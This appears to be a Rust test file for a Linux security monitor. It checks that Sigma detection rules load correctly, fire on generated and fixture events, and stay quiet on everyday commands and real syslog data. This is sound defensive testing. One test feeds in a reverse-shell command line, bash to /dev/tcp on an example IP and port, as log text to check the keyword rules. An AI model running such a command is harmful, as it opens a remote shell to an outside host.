//! The 248 Linux Sigma rules in `../shared/research/data/dev/sigma`: every one loads or is
//! rejected with a reason (exact counts asserted), and every loaded rule passes a self-check:
//! an event generated from its selections matches it.

use std::path::{Path, PathBuf};

use std::collections::HashMap;

use innerwarden_core::event::{Event, EventKind, Exec, Source};
use innerwarden_core::proctable::{ProcInfo, ProcessTable};
use innerwarden_core::sigma::{RuleSet, SigmaDetector};

mod sigma_gen;
use sigma_gen::{candidates, synthesize, ts, wanted};

fn sigma_dir() -> PathBuf {
    PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/research/data/dev/sigma"
    ))
}

fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    for e in rd.flatten() {
        let p = e.path();
        if p.is_dir() {
            walk(&p, out);
        } else if p.extension().is_some_and(|x| x == "yml" || x == "yaml") {
            out.push(p);
        }
    }
}

/// (relative name, text) of every rule file, sorted; None when the dataset is absent.
pub fn dev_rules() -> Option<Vec<(String, String)>> {
    let dir = sigma_dir();
    if !dir.is_dir() {
        println!("skipped: {} not found", dir.display());
        return None;
    }
    let mut files = Vec::new();
    walk(&dir, &mut files);
    files.sort();
    Some(
        files
            .iter()
            .map(|p| {
                let name = p.strip_prefix(&dir).unwrap_or(p).display().to_string();
                let text = std::fs::read_to_string(p).expect("rule file readable");
                (name, text)
            })
            .collect(),
    )
}

fn load() -> Option<RuleSet> {
    let files = dev_rules()?;
    Some(RuleSet::load(
        files.iter().map(|(n, t)| (n.as_str(), t.as_str())),
    ))
}

#[test]
fn every_dev_rule_loads_or_is_rejected_with_a_reason() {
    let Some(set) = load() else { return };
    let tally = set.tally();
    println!("{tally}");
    for r in &set.rejected {
        println!("rejected {}: {}", r.file, r.reason);
    }
    assert_eq!(tally.loaded_total() + tally.rejected_total(), 248);
    let loaded: Vec<(&str, usize)> = tally.loaded.iter().map(|(k, v)| (*k, *v)).collect();
    assert_eq!(loaded, EXPECTED_LOADED, "loaded per category");
    let rejected: Vec<(&str, usize)> = tally
        .rejected
        .iter()
        .map(|(k, v)| (k.as_str(), *v))
        .collect();
    assert_eq!(rejected, EXPECTED_REJECTED, "rejected per reason");
    for r in &set.rules {
        assert!(!r.title.is_empty() && !r.id.is_empty(), "{}", r.file);
        assert!(r.author.is_some(), "{} has no author", r.file);
    }
}

const EXPECTED_LOADED: &[(&str, usize)] = &[
    ("file_event", 18),
    ("log_line", 27),
    ("network_connection", 2),
    ("process_creation", 141),
];
const EXPECTED_REJECTED: &[(&str, usize)] = &[
    ("unmapped field CurrentDirectory", 1),
    ("unmapped field DestinationHostname", 3),
    ("unmapped field LogonId", 2),
    ("unsupported logsource service auditd", 54),
];

/// Self-check of the field mapping: for every loaded rule, an event generated from its
/// selections (each alone, or all non-filter ones together) must make it fire through the
/// detector. Rules whose every candidate needs a regex value cannot be generated and are
/// counted separately.
#[test]
fn every_loaded_rule_fires_on_an_event_built_from_its_selections() {
    let Some(set) = load() else { return };
    let mut fired = 0;
    let mut regex_only = Vec::new();
    let mut missed = Vec::new();
    for rule in &set.rules {
        let one = RuleSet {
            rules: vec![rule.clone()],
            rejected: Vec::new(),
        };
        let mut generated = false;
        let mut hit = false;
        for sels in candidates(rule) {
            let Some(w) = wanted(rule, &sels) else {
                continue;
            };
            let Some((ev, procs, users)) = synthesize(rule, &w) else {
                continue;
            };
            generated = true;
            let d = SigmaDetector::new(one.clone(), users);
            if !d.matching(&ev, &procs).is_empty() {
                hit = true;
                break;
            }
        }
        match (hit, generated) {
            (true, _) => fired += 1,
            (false, false) => regex_only.push(rule.file.clone()),
            (false, true) => missed.push(rule.file.clone()),
        }
    }
    println!(
        "self-check: {fired} fired, {} regex-only (not generated), {} missed",
        regex_only.len(),
        missed.len()
    );
    for f in &regex_only {
        println!("  regex-only {f}");
    }
    for f in &missed {
        println!("  missed {f}");
    }
    assert_eq!(fired + regex_only.len() + missed.len(), 188);
    assert!(
        missed.is_empty(),
        "rules that did not fire on their own selections: {missed:?}"
    );
    assert_eq!(regex_only.len(), EXPECTED_REGEX_ONLY);
}

const EXPECTED_REGEX_ONLY: usize = 0;

/// Everyday commands a server runs: no loaded rule may fire on them except the one that is
/// written to (editing a file under /etc/nginx is what "sensitive file change" flags).
pub const BENIGN: &[(&str, &str, &str)] = &[
    ("/usr/bin/ls", "ls -la /home/alice", "/bin/bash"),
    ("/usr/bin/git", "git status --short", "/bin/bash"),
    ("/usr/bin/apt-get", "apt-get update", "/usr/bin/sudo"),
    (
        "/usr/bin/python3",
        "python3 manage.py runserver",
        "/bin/bash",
    ),
    ("/bin/bash", "bash", "/usr/sbin/sshd"),
    ("/usr/bin/ssh", "ssh deploy@10.0.0.5", "/bin/bash"),
    ("/usr/bin/cat", "cat /etc/hostname", "/bin/bash"),
    ("/usr/bin/grep", "grep -r TODO src", "/bin/bash"),
    ("/usr/bin/systemctl", "systemctl status nginx", "/bin/bash"),
    ("/usr/bin/cargo", "cargo build --release", "/bin/bash"),
    ("/usr/bin/tar", "tar xzf backup.tgz", "/bin/bash"),
    (
        "/usr/bin/rsync",
        "rsync -a /srv/ backup:/srv/",
        "/usr/sbin/cron",
    ),
    (
        "/usr/sbin/logrotate",
        "/usr/sbin/logrotate /etc/logrotate.conf",
        "/usr/sbin/cron",
    ),
    ("/usr/bin/vim", "vim /etc/nginx/nginx.conf", "/bin/bash"),
    ("/usr/bin/docker", "docker ps", "/bin/bash"),
];

fn benign_event(i: usize, image: &str, cmd: &str, parent: &str) -> (Event, ProcessTable) {
    let mut procs = ProcessTable::default();
    procs.insert(ProcInfo {
        pid: 10,
        ppid: 1,
        exe: parent.into(),
        argv: vec![parent.into()],
        ..ProcInfo::default()
    });
    let ev = Event::new(
        ts(),
        Source::Ebpf,
        EventKind::Exec(Exec {
            pid: 100 + i as u32,
            ppid: 10,
            uid: 1000,
            gid: 1000,
            comm: image.rsplit('/').next().unwrap_or(image).into(),
            filename: image.into(),
            argv: cmd.split(' ').map(str::to_owned).collect(),
            argv_truncated: false,
            cgroup_id: 0,
        }),
    );
    procs.apply_before_detect(&ev);
    (ev, procs)
}

#[test]
fn everyday_commands_fire_only_the_expected_rule() {
    let Some(set) = load() else { return };
    let d = SigmaDetector::new(set, HashMap::from([(1000, "alice".to_owned())]));
    let mut hits = Vec::new();
    for (i, (image, cmd, parent)) in BENIGN.iter().enumerate() {
        let (ev, procs) = benign_event(i, image, cmd, parent);
        for r in d.matching(&ev, &procs) {
            hits.push(format!("{cmd} -> {} ({})", r.title, r.file));
        }
    }
    println!("benign commands: {} rule hits", hits.len());
    for h in &hits {
        println!("  {h}");
    }
    assert_eq!(
        hits,
        [
            "vim /etc/nginx/nginx.conf -> Potential Suspicious Change To Sensitive/Critical Files \
          (rules/linux/process_creation/proc_creation_lnx_susp_sensitive_file_access.yml)"
        ]
    );
}

/// `tests/fixtures/sigma/{positive,negative}-*.jsonl`: real dev rules over event sequences
/// (one per category and modifier family). Header `# rule: ID` names the rule whose findings
/// are counted, `# expect: N` how many; the events run through the process table as in the
/// engine, with every loaded rule active.
#[test]
fn fixtures_fire_their_rule_exactly() {
    use innerwarden_core::detect::Detector;
    let Some(set) = load() else { return };
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sigma");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .expect("fixture dir")
        .flatten()
        .map(|e| e.path())
        .collect();
    files.sort();
    let (mut pos, mut neg) = (0, 0);
    for f in &files {
        let name = f.file_name().and_then(|n| n.to_str()).unwrap_or_default();
        let text = std::fs::read_to_string(f).expect("fixture readable");
        let header = |key: &str| {
            text.lines()
                .find_map(|l| l.strip_prefix(&format!("# {key}: ")))
                .map(|v| v.split(' ').next().unwrap_or(v).to_owned())
                .unwrap_or_else(|| panic!("{name}: no `# {key}:` header"))
        };
        let rule_id = header("rule");
        let expect: usize = header("expect").parse().expect("expect is a number");
        assert!(
            set.rules.iter().any(|r| r.id == rule_id),
            "{name}: rule {rule_id} is not loaded"
        );
        let users = HashMap::from([
            (0, "root".to_owned()),
            (33, "www-data".to_owned()),
            (1000, "alice".to_owned()),
        ]);
        let mut det = SigmaDetector::new(set.clone(), users);
        let mut procs = ProcessTable::default();
        let mut out = Vec::new();
        for line in text
            .lines()
            .filter(|l| !l.starts_with('#') && !l.is_empty())
        {
            let ev: Event = serde_json::from_str(line)
                .unwrap_or_else(|e| panic!("{name}: bad event {e}: {line}"));
            procs.apply_before_detect(&ev);
            det.on_event(&ev, &procs, &mut out);
            procs.apply_after_detect(&ev);
        }
        let got = out.iter().filter(|f| f.summary.contains(&rule_id)).count();
        println!("{name}: rule {rule_id} fired {got} (expect {expect})");
        assert_eq!(got, expect, "{name}");
        if name.starts_with("positive-") {
            assert!(expect > 0, "{name}: a positive fixture expects findings");
            pos += 1;
        } else if name.starts_with("negative-") {
            assert_eq!(expect, 0, "{name}: a negative fixture expects none");
            neg += 1;
        } else {
            panic!("{name}: fixture must be positive-* or negative-*");
        }
    }
    assert!(
        pos >= 5 && neg >= 5,
        "{pos} positive, {neg} negative fixtures"
    );
}

/// The keyword rules over two real logs (loghub `Linux_2k.log`, a host's syslog with auth
/// lines, and `OpenSSH_2k.log`, a server under brute force): how many lines each rule flags.
/// None fires: these logs hold failed logins and brute force (our own detectors' business),
/// none of the exploit, tampering or malformed-protocol text the keyword rules look for. The
/// fixtures above prove each scope and keyword form fires; this proves the rules stay quiet on
/// 4,000 ordinary lines.
#[test]
fn keyword_rules_over_real_logs() {
    use innerwarden_core::decode::authlog::{LineContext, split_syslog};
    use innerwarden_core::event::LogLine;
    let Some(set) = load() else { return };
    let logs = sigma_dir().join("../loghub");
    let d = SigmaDetector::new(set, HashMap::new());
    let ctx = LineContext::new(ts(), Source::Authlog);
    let procs = ProcessTable::default();
    let mut hits: std::collections::BTreeMap<String, usize> = Default::default();
    let mut lines = 0;
    for f in ["Linux/Linux_2k.log", "OpenSSH/OpenSSH_2k.log"] {
        let Ok(text) = std::fs::read_to_string(logs.join(f)) else {
            println!("skipped: {} not found", logs.join(f).display());
            return;
        };
        for l in text.lines() {
            let Ok(s) = split_syslog(l, &ctx) else {
                continue;
            };
            lines += 1;
            let program = s.program.split('(').next().unwrap_or(s.program);
            let ev = Event::new(
                s.ts,
                Source::Authlog,
                EventKind::LogLine(LogLine {
                    service: program.to_owned(),
                    pid: s.pid,
                    facility: None,
                    message: s.message.to_owned(),
                }),
            );
            for r in d.matching(&ev, &procs) {
                *hits.entry(r.title.clone()).or_default() += 1;
            }
        }
    }
    println!("{lines} log lines");
    for (t, n) in &hits {
        println!("  {n:>4}  {t}");
    }
    assert!(lines > 3_900, "{lines} lines parsed");
    let got: Vec<(&str, usize)> = hits.iter().map(|(k, v)| (k.as_str(), *v)).collect();
    assert_eq!(got, EXPECTED_LOG_HITS);
}

const EXPECTED_LOG_HITS: &[(&str, usize)] = &[];

#[test]
fn a_log_line_rule_ignores_other_events_and_an_exec_rule_ignores_log_lines() {
    use innerwarden_core::event::LogLine;
    let Some(set) = load() else { return };
    let d = SigmaDetector::new(set, HashMap::new());
    let procs = ProcessTable::default();
    let line = |msg: &str| {
        Event::new(
            ts(),
            Source::Journald,
            EventKind::LogLine(LogLine {
                service: "bash".into(),
                pid: Some(5),
                facility: Some(1),
                message: msg.into(),
            }),
        )
    };
    // A reverse shell's text in a log line fires the keyword rule only.
    let hits: Vec<String> = d
        .matching(&line("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), &procs)
        .iter()
        .map(|r| r.file.clone())
        .collect();
    assert!(!hits.is_empty());
    assert!(
        hits.iter().all(|f| f.starts_with("rules/linux/builtin/")),
        "{hits:?}"
    );
    assert!(d.matching(&line("GET /index.html 200"), &procs).is_empty());
}
